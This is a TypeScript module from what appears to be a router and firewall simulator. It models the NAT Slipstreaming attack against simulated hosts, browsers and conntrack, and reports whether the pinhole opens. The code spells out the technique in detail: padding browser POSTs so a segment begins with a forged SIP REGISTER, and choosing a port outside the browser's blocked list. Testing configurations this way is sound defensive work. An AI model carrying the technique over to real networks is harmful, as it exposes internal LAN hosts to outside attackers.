// nat-slipstream (SCENARIOS.md, SEMANTICS.md §6.4): the user of a LAN host opens Mallory's page; its script makes
// the browser POST to Mallory on a port the router's SIP helper inspects, padded (after a probe POST that tells the
// page its header length) so a TCP segment starts exactly with a SIP REGISTER whose Contact is the victim's LAN
// address and port. The ALG (nf_conntrack_sip) expects a connection from Mallory to that Contact and activates
// the expectation when Mallory's registrar answers 200 OK; Mallory then connects inbound. Breached when Mallory's
// connection reaches the victim's port.
//
// Modelled browser protections: the Fetch "bad port" list (5060 and 5061 are on it, so the page's attempt on the
// standard SIP port is refused before any packet leaves) and the same-origin policy (the page reads only its own
// origin's answers). The page is assumed to know the victim's LAN address (historically leaked by WebRTC host
// candidates, now hidden behind mDNS names). The router's `helpers: { sip: true }` assigns the SIP helper to port
// 5060 (nf_conntrack_sip's default `ports`); any other port is inspected only if its ruleset says so.

import { parseNftText } from "../config/nftables/index.js";
import type { Ruleset } from "../engine/filter/index.js";
import type { Network, Router } from "../model/index.js";
import { Browser } from "../sim/services/browser.js";
import type { FetchOutcome, PageContext } from "../sim/services/browser.js";
import type { SimStep, TcpConnection } from "../sim/index.js";
import { TCP_MSS } from "../sim/index.js";
import { isPrivateV4, parseIpv4 } from "../wire/address.js";
import { TcpFlag } from "../engine/index.js";
import { ExpectFlag } from "../engine/conntrack/index.js";
import { readU16 } from "../wire/bytes.js";
import * as ipv4 from "../wire/ipv4.js";
import { TCP_HEADER_LEN, TCP_PROTOCOL, TcpField } from "../wire/tcp.js";
import type { Attack, AttackPlan, AttackRun, PlanResult, RunOptions, StoppedBy } from "./attack.js";
import { formatTarget } from "./attack.js";
import { browsingHosts, castFor, ipWords, runFor } from "./actors/cast.js";
import { attackerOf, finishRun, setupError } from "./attack-run.js";
import { PROBE_MARKER, startSlipstreamServer } from "./actors/slipstream-server.js";

export const ID = "nat-slipstream";

/** The standard SIP port first (refused by modern browsers), then one a VoIP setup may also have helped. */
export const SIP_PORTS: readonly number[] = [5060, 5080];
/** The victim port when the foothold runs no TCP service (RDP, Kamkar's demo target). */
export const DEFAULT_VICTIM_PORT = 3389;
/** Both POST bodies have this length, so the probe's header length is the REGISTER POST's too. */
const BODY_LENGTH = 2400;
const SIP_EXPIRES_S = 3600;
const RUN_MS = 4000;
const CONNECT_MS = 2500;
const MALLORY_SYN_RETRIES = 1;

const PAGE = "<html><body>loading…<script>/* slipstream */</script></body></html>\n";

function plan(network: Network): PlanResult {
  if (attackerOf(network) === null) return { plans: [], notApplicable: "no internet host is marked attacker" };
  const plans: AttackPlan[] = [];
  for (const h of browsingHosts(network)) {
    const tcp = h.services.filter((s) => s.proto === "tcp");
    const ports = tcp.length > 0 ? tcp.map((s) => s.port) : [DEFAULT_VICTIM_PORT];
    for (const port of ports) plans.push({ foothold: h.name, target: { node: h.name, port, proto: "tcp" } });
  }
  if (plans.length === 0) return { plans, notApplicable: "no LAN host behind a router browses the web" };
  return { plans };
}

/** `helpers: { sip: true }`: nf_conntrack_sip's default port, assigned explicitly as Linux ≥ 4.7 requires. */
function sipHelperRuleset(router: Router): Ruleset | null {
  if (!router.helpers.sip) return null;
  const text = [
    "table inet mallory_sip_helper {",
    "  chain prerouting {",
    "    type filter hook prerouting priority filter; policy accept;",
    '    tcp dport 5060 ct helper set "sip"',
    '    udp dport 5060 ct helper set "sip"',
    "  }",
    "}",
  ].join("\n");
  return parseNftText(text, { source: `${router.name} helpers.sip` }).ruleset;
}

/** RFC 3261 §10.2 REGISTER binding the victim's LAN address and port, sent over TCP to Mallory's registrar. */
function registerMessage(mallory: string, victim: string, port: number): string {
  return (
    `REGISTER sip:${mallory};transport=tcp SIP/2.0\r\n` +
    `Via: SIP/2.0/TCP ${victim}:${port};branch=z9hG4bK-slipstream\r\n` +
    `From: <sip:slip@${mallory}>;tag=1\r\nTo: <sip:slip@${mallory}>\r\n` +
    `Call-ID: slipstream@${victim}\r\nCSeq: 1 REGISTER\r\n` +
    `Contact: <sip:slip@${victim}:${port};transport=tcp>;expires=${SIP_EXPIRES_S}\r\n` +
    `Content-Length: 0\r\n\r\n`
  );
}

function describe(r: FetchOutcome | null): string {
  if (r === null) return "no answer";
  switch (r.kind) {
    case "response":
      return `HTTP ${r.status} from ${r.address}`;
    case "blocked":
      return `refused by the browser (${r.detail})`;
    case "dns-failure":
    case "network-error":
      return r.detail;
  }
}

function run(network: Network, p: AttackPlan, opts: RunOptions): AttackRun {
  const host = network.hosts.find((h) => h.name === p.foothold);
  const router = host === undefined ? undefined : network.routers.find((r) => r.lans.some((l) => l.lan === host.lan));
  const helper = router === undefined ? null : sipHelperRuleset(router);
  const extra = router !== undefined && helper !== null ? { [router.name]: helper } : undefined;
  const built = castFor(network, p.foothold, {
    seed: opts.seed,
    ...(extra !== undefined ? { extraRulesets: extra } : {}),
  });
  if (!built.ok) return setupError(built.error);
  const cast = built.cast;
  const { twin, mallory, foothold } = cast;
  if (p.target.node !== foothold.name)
    return setupError(`${ID} opens a pinhole to the browsing host itself (SIP forbids third-party registrations)`);
  const port = p.target.port;

  const servers = SIP_PORTS.map((sp) => startSlipstreamServer(mallory.node, sp, PAGE, () => twin.sim.now));
  let synsAtVictim = 0;
  foothold.node.stack.sniff = (bytes) => {
    const ip = ipv4.parse(bytes);
    if (!ip.ok || ip.value.src !== mallory.words[0] || ip.value.protocol !== TCP_PROTOCOL) return;
    const l4 = ip.value.payload;
    if (l4.length < TCP_HEADER_LEN) return;
    if (readU16(l4, TcpField.DST_PORT) === port && (l4[TcpField.FLAGS] & TcpFlag.SYN) !== 0) synsAtVictim++;
  };

  const browser = new Browser(foothold.node, { clock: twin.sim.clock, resolver: mallory.address });
  const attempts: { port: number; page: string; probe: string; register: string }[] = [];
  const attemptPort = (i: number): void => {
    if (i >= SIP_PORTS.length) return;
    const sp = SIP_PORTS[i];
    const url = `http://${mallory.address}:${sp}/`;
    const attempt = { port: sp, page: "not tried", probe: "not sent", register: "not sent" };
    attempts.push(attempt);
    browser.visit(
      url,
      (page: PageContext) => {
        page.post(url, PROBE_MARKER.padEnd(BODY_LENGTH, "x"), (probe) => {
          attempt.probe = describe(probe);
          const headerLength = probe.kind === "response" && probe.body !== null ? Number(probe.body) : NaN;
          if (!Number.isInteger(headerLength) || headerLength >= TCP_MSS) {
            attemptPort(i + 1);
            return;
          }
          // The body's first TCP_MSS - header bytes fill the first segment; the next one starts with REGISTER.
          const sip = registerMessage(mallory.address, foothold.address, port);
          const body = "x".repeat(TCP_MSS - headerLength) + sip;
          page.post(url, body.padEnd(BODY_LENGTH, "x"), (r) => {
            attempt.register = describe(r);
            attemptPort(i + 1);
          });
        });
      },
      (r) => {
        attempt.page = describe(r);
        if (r.kind !== "response") attemptPort(i + 1);
      },
    );
  };
  attemptPort(0);
  runFor(twin, RUN_MS);

  // What the router's ALG now expects (read back from its conntrack table, as `conntrack -L expect` would show).
  const expectations = (twin.node(cast.router.name)?.datapath.conntrack.listExpectations() ?? []).map(
    (x) =>
      `${x.src ?? "*"}:${x.sport === 0 ? "*" : x.sport} -> ${x.dst}:${x.dport}` +
      ((x.flags & ExpectFlag.INACTIVE) !== 0 ? " (inactive)" : ""),
  );

  // Mallory connects to the Contact as it arrived: a router with the SIP helper's NAT half (nf_nat_sip) rewrote it
  // to its WAN address; a private one left as is is tried on the WAN address all the same.
  const registers = servers.flatMap((s) => s.registers);
  const contact = registers.at(0) ?? null;
  const stepsBefore = twin.sim.steps.length;
  let connected: TcpConnection | null = null;
  let dialled: string | null = null;
  if (contact !== null) {
    const a = parseIpv4(contact.contactAddress);
    const dst = a !== null && isPrivateV4(a) ? cast.wanAddress : contact.contactAddress;
    dialled = `${dst}:${contact.contactPort}`;
    mallory.node.stack.connect(4, ipWords(dst), contact.contactPort, {
      synRetries: MALLORY_SYN_RETRIES,
      onEstablished: (c) => {
        connected = c;
      },
    });
    runFor(twin, CONNECT_MS);
  }

  const target = formatTarget(p.target);
  const established = (connected as TcpConnection | null) !== null;
  const details = {
    attempts,
    registersAtMallory: registers.map((r) => `${r.contactAddress}:${r.contactPort}`),
    routerExpectations: expectations,
    dialled,
    synsAtVictim,
    established,
    sipHelperPorts: router?.helpers.sip === true ? [5060] : [],
  };
  const base = { attack: ID, capability: "web-visitor" as const, target, foothold: foothold.name };
  const note =
    "Browser protections modelled: the Fetch bad-port list (5060/5061 refused before anything is sent) and the " +
    "same-origin policy; the page is assumed to know the victim's LAN address (WebRTC used to leak it). Linux " +
    "assigns a conntrack helper only where the ruleset says `ct helper set`, so the POST must go to a port the " +
    "router helps.";
  if (synsAtVictim > 0)
    return finishRun(twin, opts, {
      ...base,
      outcome: "breached",
      stoppedBy: null,
      evidence:
        `the page smuggled a REGISTER with Contact ${foothold.address}:${port} through the router's SIP helper, ` +
        `which published it as ${contact === null ? "?" : `${contact.contactAddress}:${contact.contactPort}`}; ` +
        `Mallory's connection to ${dialled ?? "?"} reached ${target}` +
        (established ? " and was accepted" : " (the port answered, nothing listens)"),
      note,
      details,
    });

  const dialledTo = dialled;
  const stoppedBy: StoppedBy | null =
    dialledTo !== null
      ? twin.stoppedByFromSteps(
          (s: SimStep) => s.packet.startsWith(`${mallory.address}:`) && s.packet.endsWith(` > ${dialledTo}`),
          stepsBefore,
        )
      : null;
  const why =
    contact === null
      ? `no REGISTER reached Mallory (${attempts.map((a) => `port ${a.port}: ${a.page}`).join("; ")})`
      : `Mallory's connection to ${dialled ?? "?"} never reached ${target}: ` +
        (expectations.length === 0
          ? "no helper opened a pinhole for it"
          : `the router expects only ${expectations.join(", ")}, which Mallory cannot address from the internet`);
  return finishRun(twin, opts, { ...base, outcome: "blocked", stoppedBy, evidence: why, note, details });
}

export const natSlipstream: Attack = {
  id: ID,
  capability: "web-visitor",
  summary: "a web page smuggles a SIP REGISTER through the router's SIP helper, opening a pinhole to the LAN host",
  plan,
  run,
};
